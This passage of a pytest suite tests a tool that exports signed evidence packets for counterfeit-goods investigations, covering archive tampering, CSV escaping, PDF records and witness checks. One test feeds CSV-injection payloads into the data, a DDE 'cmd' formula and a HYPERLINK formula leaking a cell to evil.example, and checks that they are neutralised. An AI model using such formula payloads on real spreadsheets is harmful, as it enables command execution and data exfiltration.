    assert "changed: manifest.json" not in report.lines()
    assert report.lines()[0].startswith("signature: INVALID — manifest.sig was changed")


def test_the_signature_file_still_checks_with_the_documented_shell_recipe(packet: bytes, tmp_path: Path):
    """docs/evidence.md checks the signature with xxd and openssl: manifest.sig's second line must not
    break that (xxd -r -p stops at its first letter that is not a hex digit)."""
    if not (shutil.which("xxd") and shutil.which("openssl")):
        pytest.skip("xxd or openssl is not installed on this machine (make test installs both)")
    files = members(packet)
    for name in ("manifest.json", "manifest.sig", "public_key.txt"):
        (tmp_path / name).write_bytes(files[name])
    key = files["public_key.txt"].decode().strip()
    der = bytes.fromhex("302a300506032b6570032100" + key)
    (tmp_path / "pub.der").write_bytes(der)
    subprocess.run(["sh", "-c", "xxd -r -p manifest.sig > manifest.sig.bin"], cwd=tmp_path, check=True)
    checked = subprocess.run(
        [
            "openssl",
            "pkeyutl",
            "-verify",
            "-pubin",
            "-keyform",
            "DER",
            "-inkey",
            "pub.der",
            "-rawin",
            "-in",
            "manifest.json",
            "-sigfile",
            "manifest.sig.bin",
        ],
        cwd=tmp_path,
        capture_output=True,
        text=True,
    )
    assert checked.returncode == 0, checked.stdout + checked.stderr


def with_comment(data: bytes, comment: bytes) -> bytes:
    assert data[-2:] == b"\x00\x00"  # a packet is written without a ZIP comment
    return data[:-2] + len(comment).to_bytes(2, "little") + comment


@pytest.mark.parametrize(
    "mutate",
    [
        pytest.param(
            lambda d: b"\x00" * 140 + with_comment(d, "第二份内容".encode()), id="prepended+comment"
        ),
        pytest.param(lambda d: b"MZ" + b"\x90" * 138 + d, id="prepended"),
        pytest.param(lambda d: with_comment(d, b"anything at all"), id="comment"),
        pytest.param(lambda d: d + b"appended", id="appended"),
    ],
)
def test_bytes_outside_the_members_and_the_central_directory_fail(packet: bytes, mutate):  # type: ignore[no-untyped-def]
    data = mutate(packet)
    with zipfile.ZipFile(io.BytesIO(data)) as archive:  # the ZIP still opens and reads
        assert archive.read("audit.csv") == members(packet)["audit.csv"]
    report = verify_packet(data)
    assert report.is_packet and not report.ok
    assert report.signature_valid  # every member is intact: it is the archive around them
    assert any("byte(s)" in p for p in report.problems), report.problems
    assert not any(line.startswith("intact") for line in report.lines())


def test_the_packet_csvs_never_become_formulas(db: Database, lead_id: int):
    with db.session() as session:
        listing_id = session.query(Snapshot.listing_id).first()[0]
        from storage.models import Listing

        listing = session.get(Listing, listing_id)
        upsert_listing(
            session=session,
            record={
                "id": "demo-static:10023",
                "title": listing.title,
                "price": 8.8,
                "currency": "=cmd|' /C calc'!A0",
            },
            seen_at=T0 + timedelta(days=5),
        )
        reviewer = session.query(User).filter_by(name="王审核").one()
        session.add(
            ReviewEvent(
                lead_id=lead_id,
                user_id=reviewer.id,
                at=T0 + timedelta(days=6),
                action="escalate",
                note='=HYPERLINK("http://evil.example/?x="&A1,"点此查看")',
            )
        )
    data = build_packet(db, lead_id, user_name="李调查", now=EXPORTED)
    files = members(data)
    prices = list(csv.reader(io.StringIO(files["price_history.csv"].decode("utf-8-sig"))))
    assert prices[-1][3] == "'=cmd|' /C calc'!A0"
    audit = list(csv.reader(io.StringIO(files["audit.csv"].decode("utf-8-sig"))))
    notes = [row[5] for row in audit[1:]]
    assert '\'=HYPERLINK("http://evil.example/?x="&A1,"点此查看")' in notes
    for table in (prices, audit):
        for row in table[1:]:
            assert not any(cell[:1] in ("=", "+", "-", "@") for cell in row), row
    assert verify_packet(data).ok


def test_control_characters_in_scraped_text_reach_no_csv_or_pdf(db: Database, lead_id: int, tmp_path: Path):
    with db.session() as session:
        listing_id = session.query(Snapshot.listing_id).first()[0]
        from storage.models import Listing

        listing = session.get(Listing, listing_id)
        listing.title = "康帅傅\x00方便面\x1b[31m\x07"
        listing.currency = "CNY\x0b"
    data = build_packet(db, lead_id, user_name="李调查", now=EXPORTED)
    files = members(data)
    for name in ("price_history.csv", "audit.csv"):
        assert not any(ch in files[name].decode("utf-8-sig") for ch in "\x00\x1b\x07\x0b")
    pdf = tmp_path / "report.pdf"
    pdf.write_bytes(files["report.pdf"])
    if shutil.which("pdftotext"):
        text = subprocess.run(["pdftotext", str(pdf), "-"], capture_output=True, text=True, check=True).stdout
        assert "康帅傅\\x00方便面\\x1b[31m\\x07" in text.replace("\n", "")


# --- report.pdf as an extraction record (电子数据提取笔录) ------------------------------------------


def with_shop_cue_and_image(db: Database, lead_id: int) -> None:
    """The lead's seller with a relative shop address, a counterfeit-cue reason and a stored product image."""
    from storage.images import record_listing_images
    from storage.models import Lead, Score

    with db.session() as session:
        lead = session.get(Lead, lead_id)
        assert lead is not None
        lead.listing.seller.url = "/shop/s-88"
        score = session.query(Score).filter_by(listing_id=lead.listing_id).one()
        score.reasons = [*score.reasons, {"signal": "counterfeit_cue", "weight": 0.3, "detail": "原单尾货"}]
        image = png("blue", size=300)
        record_listing_images(
            session=session,
            images=[
                {
                    "listing_id": lead.listing_id,
                    "url": "http://127.0.0.1:8801/img/10023-1.png",
                    "sha256": db.blobs.put(image),
                    "phash": "0" * 16,
                    "size": len(image),
                    "seen_at": T0,
                    "position": 0,
                }
            ],
        )


@pytest.fixture
def record_packet(db: Database, lead_id: int, monkeypatch: pytest.MonkeyPatch) -> bytes:
    from settings import get_settings

    monkeypatch.setenv("MARKWATCH_BUREAU", "上海市浦东新区市场监督管理局")
    monkeypatch.setenv("MARKWATCH_EXTRACTION_PLACE", "浦东新区市场监管局执法大队办公室")
    monkeypatch.setenv("MARKWATCH_OFFICER_CERTIFICATES", '{"李调查": "31010012345", "王审核": "31010067890"}')
    with_shop_cue_and_image(db, lead_id)
    return build_packet(
        db, lead_id, user_name="李调查", now=EXPORTED, witness="王审核", settings=get_settings()
    )


def test_the_report_names_both_officers_the_bureau_and_the_place(record_packet: bytes, tmp_path: Path):
    text = pdf_text(record_packet, tmp_path)
    assert "见证人" in text and "王审核（执法证号：31010067890）" in text
    assert "李调查（执法证号：31010012345）" in text
    assert "上海市浦东新区市场监督管理局" in text and "浦东新区市场监管局执法大队办公室" in text
    assert "证据包保存商品图片 1 张" in text
    assert "markwatch 0.1.0 (scrapy)" in text.split("提取方法")[0]  # the capture environment, up front
    manifest = json.loads(members(record_packet)["manifest.json"])
    assert manifest["exported"]["witness"] == "王审核"
    assert manifest["exported"]["witness_certificate"] == "31010067890"


def test_every_page_says_page_x_of_y_and_the_urls_are_absolute(record_packet: bytes, tmp_path: Path):
    text = pdf_text(record_packet, tmp_path)
    pages = text.split("\f")[:-1] if text.endswith("\f") else text.split("\f")
    total = len(pages)
    assert total >= 4  # the record, then the two screenshots and the product image on pages of their own
    for n, page in enumerate(pages, 1):
        assert f"第{n}页共{total}页" in "".join(page.split())  # pdftotext drops the spaces around digits
    assert "http://127.0.0.1:8801/shop/s-88" in text.replace("\n", "")
    assert "/shop/s-88" not in text.replace("http://127.0.0.1:8801/shop/s-88", "")


def test_signals_are_named_in_chinese_not_as_codes(record_packet: bytes, tmp_path: Path):
    reasons = pdf_text(record_packet, tmp_path).split("评分理由")[1].split("四、网页快照")[0]
    assert "仿冒暗示词" in reasons and "商标近似" in reasons and "价格异常" in reasons
    assert "counterfeit_cue" not in reasons and "lookalike_mark" not in reasons


def test_the_pdf_creation_date_is_the_export_time(record_packet: bytes, tmp_path: Path):
    if not shutil.which("pdfinfo"):
        pytest.skip("poppler-utils (pdfinfo) is not installed on this machine (make test installs it)")
    pdf = tmp_path / "report.pdf"
    pdf.write_bytes(members(record_packet)["report.pdf"])
    info = subprocess.run(
        ["pdfinfo", "-isodates", str(pdf)], capture_output=True, text=True, check=True
    ).stdout
    created = next(line for line in info.splitlines() if line.startswith("CreationDate:")).split()[1]
    assert datetime.fromisoformat(created.replace("Z", "+00:00")) == EXPORTED


def test_the_method_says_only_what_the_packet_holds(db: Database, lead_id: int, tmp_path: Path):
    with_shops = pdf_text(build_packet(db, lead_id, user_name="李调查", now=EXPORTED), tmp_path)
    method = "".join(with_shops.split("提取方法")[1].split("提取工具")[0].split())  # lines wrap anywhere
    assert "页面截图2张" in method and "网页原始HTML2份" in method

    with db.session() as session:
        for snap in session.query(Snapshot).all():
            snap.screenshot_sha256 = None
    without = pdf_text(build_packet(db, lead_id, user_name="李调查", now=EXPORTED), tmp_path)
    method = "".join(without.split("提取方法")[1].split("提取工具")[0].split())
    assert "截图" not in method and "网页原始HTML2份" in method


@pytest.mark.parametrize("witness", ["李调查", "无此人"])
def test_a_witness_must_be_a_second_active_user(db: Database, lead_id: int, witness: str):
    from review.evidence.packet import InvalidWitness

    with pytest.raises(InvalidWitness, match=witness):
        build_packet(db, lead_id, user_name="李调查", now=EXPORTED, witness=witness)
    with db.session() as session:
        assert session.query(EvidencePacket).count() == 0  # nothing recorded for a refused export


def test_cli_and_web_exports_share_the_file_name_and_name_the_cli_user(
    cli, db: Database, lead_id: int, tmp_path: Path, monkeypatch: pytest.MonkeyPatch
):
    monkeypatch.chdir(tmp_path)
    result = cli("evidence", "export", lead_id, "--as", "李调查", "--witness", "王审核")
    assert result.exit_code == 0, result.stderr
    (written,) = tmp_path.glob(f"markwatch-lead-{lead_id}-*.zip")
    assert verify_packet(written).ok
    audit = members(written.read_bytes())["audit.csv"].decode("utf-8-sig")
    refused = cli("evidence", "export", lead_id, "--as", "无此人", "--out", tmp_path / "x.zip")
    assert refused.exit_code == 2 and "无此人" in refused.stderr
    bad_witness = cli("evidence", "export", lead_id, "--witness", "无此人", "--out", tmp_path / "y.zip")
    assert bad_witness.exit_code == 2 and "无此人" in bad_witness.stderr

    # an OS login that is no markwatch user is recorded by its name in the audit trail, not as the system
    monkeypatch.setattr("getpass.getuser", lambda: "ops-zhang")
    assert cli("evidence", "export", lead_id, "--out", tmp_path / "second.zip").exit_code == 0
    audit = members((tmp_path / "second.zip").read_bytes())["audit.csv"].decode("utf-8-sig")
    rows = list(csv.reader(io.StringIO(audit)))
    exports = [row for row in rows if row[3] == "evidence_export"]
    assert [row[2] for row in exports] == ["李调查"]  # this export is recorded after it is built
    third = build_packet(db, lead_id, user_name="王审核", now=EXPORTED)
    rows = list(csv.reader(io.StringIO(members(third)["audit.csv"].decode("utf-8-sig"))))
    assert [row[2] for row in rows if row[3] == "evidence_export"] == ["李调查", "ops-zhang"]
